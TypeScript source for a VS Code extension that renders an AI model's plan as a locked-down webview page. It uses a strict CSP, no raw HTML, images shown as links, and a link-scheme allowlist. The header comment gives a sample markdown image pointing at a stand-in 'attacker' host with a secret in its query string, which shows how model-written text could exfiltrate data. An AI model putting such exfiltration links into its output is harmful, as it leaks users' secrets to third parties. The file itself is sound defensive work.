import MarkdownIt from 'markdown-it';
import { escapeInvisible } from '../core/displayText';

/**
 * Claude's plan as a page for our own webview (src/vscode/planView.ts). No `vscode` here, so the
 * unit tests render it as the host does.
 *
 * Why not VS Code's markdown preview: its default CSP loads `https:` images, so a plan holding
 * `![](https://attacker/?d=<secret>)` sent the request the moment the plan opened, before the
 * user had read a word. Here nothing the model wrote can load anything:
 * - the CSP allows our nonce'd stylesheet and nothing else (no images, fonts, frames or scripts,
 *   and the webview runs no scripts at all);
 * - raw HTML is shown as text (`html: false`);
 * - an image becomes a link labelled `[image: alt]` (a web address) or plain text (anything
 *   else), so loading it is the user's click, through VS Code's own "open external website?";
 * - links keep only web and mail addresses (no `command:`, `file:`, `vscode:`), with the
 *   address as their title so the user sees where a link goes;
 * - invisible and bidi characters are shown as `\u202E`-style escapes.
 */
export function planHtml(plan: string, o: { nonce: string; title: string }): string {
  const csp = [`default-src 'none'`, `style-src 'nonce-${o.nonce}'`, `img-src 'none'`, `script-src 'none'`, `form-action 'none'`].join('; ');
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${csp}">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<style nonce="${o.nonce}">${STYLE}</style>
<title>${md.utils.escapeHtml(o.title)}</title>
</head>
<body>
<main class="plan">
${renderPlan(plan)}
</main>
</body>
</html>`;
}

/** The plan's body: markdown → HTML with the rules above. */
export function renderPlan(plan: string): string {
  return md.render(escapeInvisible(plan));
}

const WEB = /^(https?:|mailto:)/i;

const md = new MarkdownIt({ html: false, linkify: true });
const escapeHtml = md.utils.escapeHtml;

md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const src = String(token.attrGet('src') ?? '');
  const alt = self.renderInlineAsText(token.children ?? [], options, env);
  const label = escapeHtml(alt ? `[image: ${alt}]` : '[image]');
  if (WEB.test(src)) return `<a class="image-link" href="${escapeHtml(src)}" title="${escapeHtml(src)}">${label}</a>`;
  // Not a web address (a relative path, a data: URL): named, never loaded.
  return `<span class="image-link">${label}${src && !src.startsWith('data:') ? ` (${escapeHtml(src)})` : ''}</span>`;
};

const defaultLinkOpen = md.renderer.rules.link_open ?? ((tokens, idx, options, _env, self) => self.renderToken(tokens, idx, options));
md.renderer.rules.link_open = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const href = String(token.attrGet('href') ?? '');
  if (WEB.test(href)) token.attrSet('title', href);
  else {
    // Kept as a plain anchor: the text still reads, nothing happens on a click.
    token.attrs = (token.attrs ?? []).filter(([name]) => name !== 'href');
    token.attrSet('title', href);
  }
  return defaultLinkOpen(tokens, idx, options, env, self);
};

/** VS Code's theme variables, so the plan reads like the editor around it. */
const STYLE = `
body { font-family: var(--vscode-font-family); font-size: var(--vscode-font-size); color: var(--vscode-foreground); background: var(--vscode-editor-background); line-height: 1.5; }
.plan { max-width: 52rem; margin: 0 auto; padding: 0.5rem 1.5rem 2rem; overflow-wrap: anywhere; }
h1, h2, h3, h4 { font-weight: 600; line-height: 1.25; margin: 1.2em 0 0.5em; }
h1 { font-size: 1.6em; padding-bottom: 0.3em; border-bottom: 1px solid var(--vscode-panel-border, rgba(128,128,128,0.35)); }
h2 { font-size: 1.3em; }
h3 { font-size: 1.1em; }
a { color: var(--vscode-textLink-foreground); }
a:hover { color: var(--vscode-textLink-activeForeground); }
a:not([href]) { color: inherit; text-decoration: underline dotted; }
code { font-family: var(--vscode-editor-font-family); font-size: 0.92em; background: var(--vscode-textCodeBlock-background, rgba(128,128,128,0.15)); padding: 0.1em 0.3em; border-radius: 3px; }
pre { background: var(--vscode-textCodeBlock-background, rgba(128,128,128,0.15)); padding: 0.7em 1em; border-radius: 4px; overflow-x: auto; }
pre code { background: none; padding: 0; }
blockquote { margin: 0; padding: 0 1em; border-left: 3px solid var(--vscode-textBlockQuote-border, rgba(128,128,128,0.5)); color: var(--vscode-descriptionForeground); }
table { border-collapse: collapse; }
th, td { border: 1px solid var(--vscode-panel-border, rgba(128,128,128,0.35)); padding: 0.3em 0.6em; }
hr { border: 0; border-top: 1px solid var(--vscode-panel-border, rgba(128,128,128,0.35)); }
.image-link { font-style: italic; }
`;
